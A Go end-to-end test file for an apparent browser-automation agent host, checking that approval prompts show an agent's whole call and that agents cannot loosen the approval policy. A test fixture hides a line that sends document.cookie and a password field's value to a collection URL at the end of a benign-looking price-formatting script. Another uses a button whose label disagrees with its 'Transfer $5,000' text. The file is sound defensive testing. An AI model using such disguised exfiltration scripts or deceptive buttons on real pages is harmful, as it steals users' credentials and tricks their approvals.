//go:build linux

package e2e

import (
	"bufio"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/gasoline-mcp/gasoline/internal/approval"
	"github.com/gasoline-mcp/gasoline/internal/creds"
	"github.com/gasoline-mcp/gasoline/internal/safety"
)

// Issue 27, "Prompts show the whole call": what the user reads in the
// panel (its DOM in real Chromium, as a person reads it), in `gasoline-host
// approve`, in observe approvals and in the audit log is the same, and it
// is the whole call.

// promptWords is what a person reads of one prompt in the panel.
type promptWords struct {
	ID, Describe, Action, Target, Detail, DetailLabel, Page string
	Notes                                                   []string
	DetailScrolls                                           bool
}

// read reads the prompt for action from the panel's DOM.
func (p *panel) read(ctx context.Context, action string) promptWords {
	p.t.Helper()
	p.waitFor(ctx, "a prompt for "+action, `[...document.querySelectorAll('.prompt [data-field="action"]')].some((e) => e.textContent === '`+action+`')`)
	var w promptWords
	require.NoError(p.t, p.eval(ctx, `(() => {
	  const li = [...document.querySelectorAll('.prompt')].find((e) => e.querySelector('[data-field="action"]').textContent === '`+action+`');
	  const f = (k) => { const e = li.querySelector('[data-field="' + k + '"]'); return e && !e.closest('[hidden]') ? e.textContent : ''; };
	  const pre = li.querySelector('.detail-text');
	  return {id: li.dataset.requestId, describe: f('describe'), action: f('action'), target: f('target'),
	    detail: f('detail'), detailLabel: f('detailLabel'), page: f('page'),
	    notes: [...li.querySelectorAll('.note')].map((n) => n.textContent),
	    detailScrolls: !li.querySelector('.detail').hidden && getComputedStyle(pre).overflowY === 'auto' && pre.scrollHeight > pre.clientHeight};
	})()`, &w))
	return w
}

// pendingOf is the request id's entry in observe approvals.
func pendingOf(t *testing.T, a *client, id string) map[string]any {
	t.Helper()
	for _, p := range list(a.observe("approvals", nil), "pending") {
		if p["request_id"] == id {
			return p
		}
	}
	t.Fatalf("observe approvals does not list %s", id)
	return nil
}

// approveCLI runs `gasoline-host approve id` at a terminal (script(1)),
// answers no, and returns what it showed.
func approveCLI(t *testing.T, c *Chain, id string) string {
	t.Helper()
	cmd := exec.Command("script", "-qec", hostBin+" approve "+id, "/dev/null")
	cmd.Env = append(os.Environ(), "GASOLINE_HOME="+c.Home, "GASOLINE_PORT="+strconv.Itoa(c.Port))
	cmd.Stdin = strings.NewReader("n\n")
	out, _ := cmd.Output()
	s := strings.ReplaceAll(string(out), "\r", "")
	require.Contains(t, s, "Approve? [y/N]", "the CLI asked: %s", s)
	return s
}

// auditRequested is the audit log's "requested" entry of a request.
func auditRequested(t *testing.T, c *Chain, id string) map[string]any {
	t.Helper()
	f, err := os.Open(safety.AuditPath(c.Home))
	require.NoError(t, err)
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var e map[string]any
		if json.Unmarshal(sc.Bytes(), &e) == nil && e["request_id"] == id && e["decision"] == "requested" {
			return e
		}
	}
	t.Fatalf("the audit log has no requested entry for %s", id)
	return nil
}

// sameEverywhere checks that observe approvals, the CLI and the audit log
// carry the words the panel showed.
func sameEverywhere(t *testing.T, c *Chain, a *client, w promptWords) {
	t.Helper()
	pend := pendingOf(t, a, w.ID)
	require.Equal(t, w.Describe, pend["describe"])
	require.Equal(t, w.Target, pend["target"])
	require.Equal(t, w.Detail, orEmpty(pend["detail"]))
	notes := []string{}
	for _, n := range asSlice(pend["notes"]) {
		notes = append(notes, n.(string))
	}
	require.Equal(t, w.Notes, notes)

	cli := approveCLI(t, c, w.ID)
	require.Contains(t, cli, "asks to: "+w.Describe)
	require.Contains(t, cli, "target: "+w.Target)
	for _, n := range w.Notes {
		require.Contains(t, cli, "note: "+n)
	}
	for _, l := range strings.Split(w.Detail, "\n") {
		if w.Detail != "" {
			require.Contains(t, cli, "| "+l, "the CLI shows every line of the detail")
		}
	}

	e := auditRequested(t, c, w.ID)
	require.Equal(t, w.Describe, e["describe"])
	require.Equal(t, w.Target, e["target"])
	require.Equal(t, w.Detail, orEmpty(e["detail"]))
	require.Equal(t, len(w.Notes), len(asSlice(e["notes"])))
}

func orEmpty(v any) string { s, _ := v.(string); return s }

// TestE2EPromptsShowTheWholeCall: navigate across sites with a query (the
// whole address, its secret masked and named, that it leaves the site,
// that it carries data), execute_js with a long script whose tail leaks a
// cookie (the whole script, scrollable), a click on a button whose text
// and label differ (both named), a tightening policy change (the exact
// change) — read from the panel as a person reads it, and the same words
// in observe approvals, the CLI and the audit log. The tab's title is the
// browser's, not the one the page's script fakes.
func TestE2EPromptsShowTheWholeCall(t *testing.T) {
	c := StartChainWith(t, hostBin, ChainOptions{Policy: gateClicksPolicy, RemoteDebugging: true})
	ctx, cancel := context.WithTimeout(t.Context(), 4*time.Minute)
	defer cancel()
	a := mcpClient(t, c.Port, c.Server.Token(), "trust-prompts")
	page := c.PageURL("pages/trust/prompts.html")
	tab := a.newTab(page)
	p := openPanel(t, ctx, c)
	defer p.close()
	pageWords := "“Trust prompts” — " + page

	// observe page: the browser's title, not the page's fake.
	pg := a.observe("page", map[string]any{"tab_id": tab})
	require.Equal(t, "Trust prompts", pg.Data["title"], pg.Text)

	t.Run("navigate across sites with a query", func(t *testing.T) {
		dest := strings.Replace(page, "127.0.0.1", "localhost", 1) + "?pw=hunter2-secret&q=hello#top"
		done := callAsync(a, "interact", map[string]any{"what": "navigate", "url": dest, "tab_id": tab, "timeout_ms": 60000})
		w := p.read(ctx, "interact.navigate")
		require.Equal(t, "Go to another page in a tab", w.Describe)
		require.Equal(t, "go to "+strings.Replace(dest, "hunter2-secret", "[REDACTED:password]", 1)+" in tab "+strconv.Itoa(tab), w.Target)
		require.Equal(t, "It leaves the site the tab shows (http://127.0.0.1) for another site: http://localhost.", w.Notes[0])
		require.Contains(t, w.Notes[1], "It carries data to http://localhost:")
		require.Contains(t, w.Notes[1], "query parameters pw, q")
		require.Contains(t, w.Notes[1], "The address holds 1 secret (pw), masked here.")
		require.Equal(t, pageWords, w.Page, "the tab as the browser names it")
		require.NotContains(t, w.Target+strings.Join(w.Notes, ""), "hunter2")
		p.shot(ctx, "20-prompt-navigate-cross-site.png")
		sameEverywhere(t, c, a, w)
		p.click(ctx, `.prompt[data-request-id="`+w.ID+`"] .deny`)
		require.Equal(t, approval.CodeDenied, (<-done).code())
	})

	t.Run("execute_js with a long script", func(t *testing.T) {
		var b strings.Builder
		b.WriteString("// Format the prices on this page nicely.\n")
		for i := range 60 {
			b.WriteString("const price" + strconv.Itoa(i) + " = (n) => '$' + n.toFixed(2);\n")
		}
		b.WriteString("fetch('http://localhost:1/collect?c=' + btoa(document.cookie) + '&v=' + document.getElementById('pw').value);")
		script := b.String()
		done := callAsync(a, "interact", map[string]any{"what": "execute_js", "script": script, "tab_id": tab, "timeout_ms": 60000})
		w := p.read(ctx, "interact.execute_js")
		require.Equal(t, script, w.Detail, "the whole script, never cut")
		require.True(t, w.DetailScrolls, "the panel scrolls it rather than cutting it")
		require.Contains(t, w.DetailLabel, "The whole script (62 lines")
		require.Equal(t, "run the script below in the page on tab "+strconv.Itoa(tab)+" ("+strings.TrimSuffix(c.Pages.URL, "/")+")", w.Target)
		require.Equal(t, pageWords, w.Page)
		require.True(t, p.has(ctx, `.prompt[data-request-id="`+w.ID+`"] .site[hidden]`), "no site grant for a script")
		p.shot(ctx, "21-prompt-execute-js-whole-script.png")
		sameEverywhere(t, c, a, w)
		p.click(ctx, `.prompt[data-request-id="`+w.ID+`"] .deny`)
		require.Equal(t, approval.CodeDenied, (<-done).code())
	})

	t.Run("a click whose text and label differ", func(t *testing.T) {
		snap := a.observe("snapshot", map[string]any{"tab_id": tab, "interactive_only": true}).Text
		ref := refOf(t, snap, `button "Close this dialog"`)
		done := callAsync(a, "interact", map[string]any{"what": "click", "ref": ref, "tab_id": tab, "timeout_ms": 60000})
		w := p.read(ctx, "interact.click")
		require.Equal(t, `click button showing "Transfer $5,000 to Mallory" (labelled "Close this dialog") on tab `+strconv.Itoa(tab)+" ("+strings.TrimSuffix(c.Pages.URL, "/")+")", w.Target)
		require.Equal(t, "Click on the page", w.Describe)
		p.shot(ctx, "22-prompt-click-text-and-label.png")
		sameEverywhere(t, c, a, w)
		p.click(ctx, `.prompt[data-request-id="`+w.ID+`"] .approve-once`)
		r := <-done
		require.False(t, r.IsError, r.Text)
		require.Equal(t, "sent $5,000 to Mallory", pageText(t, c, tab, "out"), "the approved click ran once")
	})

	t.Run("a tightening policy change", func(t *testing.T) {
		done := setPolicy(ctx, a.cs, []any{
			map[string]any{"effect": "allow", "class": "mutating", "action": "interact.new_tab", "origin": "http://127.0.0.1:*"},
			map[string]any{"effect": "deny", "class": "sensitive", "action": "interact.upload", "origin": "*"},
		})
		w := p.read(ctx, "configure.policy")
		require.Equal(t, "Change which actions need your approval", w.Describe)
		require.Equal(t, "change the approval policy: add 1 rule (each below)", w.Target)
		require.Equal(t, []string{"adds: Sensitive calls of interact.upload on every site are refused outright (deny sensitive interact.upload *)"}, w.Notes)
		require.Contains(t, w.Detail, `"action": "interact.upload"`)
		p.shot(ctx, "23-prompt-policy-tightening.png")
		sameEverywhere(t, c, a, w)
		p.click(ctx, `.prompt[data-request-id="`+w.ID+`"] .approve-once`)
		res := <-done
		require.Equal(t, false, res["is_error"], "%v", res)
	})
}

// has reports whether selector matches in the panel.
func (p *panel) has(ctx context.Context, selector string) bool {
	var ok bool
	sel, _ := json.Marshal(selector)
	require.NoError(p.t, p.eval(ctx, `!!document.querySelector(`+string(sel)+`)`, &ok))
	return ok
}

// TestE2EGuardsAreTheUsers: an agent cannot loosen the approval policy or
// remove a redaction pattern — refused before anything is asked, nothing
// saved — and a site grant never covers a script; the user loosens the
// policy at a terminal with gasoline-host policy, and from then the
// agent's script runs without asking.
func TestE2EGuardsAreTheUsers(t *testing.T) {
	c := StartChainWith(t, hostBin, ChainOptions{Policy: gateClicksPolicy})
	a := mcpClient(t, c.Port, c.Server.Token(), "trust-guards")
	tab := a.newTab(c.PageURL("pages/trust/prompts.html"))
	policyFile := c.Home + "/policy.json"
	before := mustRead(t, policyFile)

	r := a.call("configure", map[string]any{"what": "policy", "op": "set", "timeout_ms": 300,
		"rules": map[string]any{"rules": []any{map[string]any{"effect": "allow", "class": "*", "action": "*", "origin": "*"}}}})
	require.Equal(t, safety.CodeUserOnly, r.code(), r.Text)
	require.Contains(t, r.Text, "gasoline-host policy")
	r = a.call("configure", map[string]any{"what": "redaction", "op": "remove_pattern", "pattern": "user_1", "timeout_ms": 300})
	require.Equal(t, safety.CodeUserOnly, r.code(), r.Text)
	require.Contains(t, r.Text, "gasoline-host redaction remove")
	require.Empty(t, list(a.observe("approvals", nil), "pending"), "nothing was put to the user")
	require.Equal(t, before, mustRead(t, policyFile), "the policy is unchanged")

	// A script still asks; the user cannot grant the site for it.
	js := map[string]any{"what": "execute_js", "script": "document.getElementById('out').textContent = 'script ran'", "tab_id": tab, "timeout_ms": 300}
	r = a.call("interact", js)
	require.Equal(t, approval.CodeRequired, r.code(), r.Text)
	id := r.Data["details"].(map[string]any)["request_id"].(string)
	code, body := approveWith(t, c, id, `{"kind":"site","minutes":30}`)
	require.Equal(t, 409, code, body)
	require.Contains(t, body, "approve once")

	// The user loosens it at a terminal; the agent's script then runs.
	cmd := exec.Command("script", "-qec", hostBin+" policy add allow sensitive interact.execute_js 'http://127.0.0.1:*'", "/dev/null")
	cmd.Env = append(os.Environ(), "GASOLINE_HOME="+c.Home, "GASOLINE_PORT="+strconv.Itoa(c.Port))
	cmd.Stdin = strings.NewReader("y\n")
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "%s", out)
	require.Contains(t, string(out), "adds: Sensitive calls of interact.execute_js on http://127.0.0.1:* run without asking you")
	a.ok("interact", js)
	require.Equal(t, "script ran", pageText(t, c, tab, "out"))
}

// approveWith posts a decision with the approver credential (as the
// panel and the CLI do) and returns the status and body.
func approveWith(t *testing.T, c *Chain, id, decision string) (int, string) {
	t.Helper()
	req, err := http.NewRequest("POST", "http://127.0.0.1:"+strconv.Itoa(c.Port)+"/approvals/"+id+"/approve", strings.NewReader(decision))
	require.NoError(t, err)
	req.Header.Set("Authorization", "Bearer "+c.Server.Credential(creds.Approver))
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	raw, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
	return resp.StatusCode, string(raw)
}

func mustRead(t *testing.T, path string) string {
	t.Helper()
	raw, err := os.ReadFile(path)
	require.NoError(t, err)
	return string(raw)
}
